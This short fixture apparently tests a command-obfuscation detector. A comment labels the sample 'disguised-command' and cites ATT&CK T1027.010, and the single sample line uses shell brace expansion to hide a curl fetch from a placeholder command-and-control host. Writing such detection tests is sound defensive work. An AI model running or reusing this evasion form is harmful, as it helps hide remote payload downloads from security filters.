# expect: disguised-command | source: T1027.010
{curl,-s,https://c2.example.invalid/i}
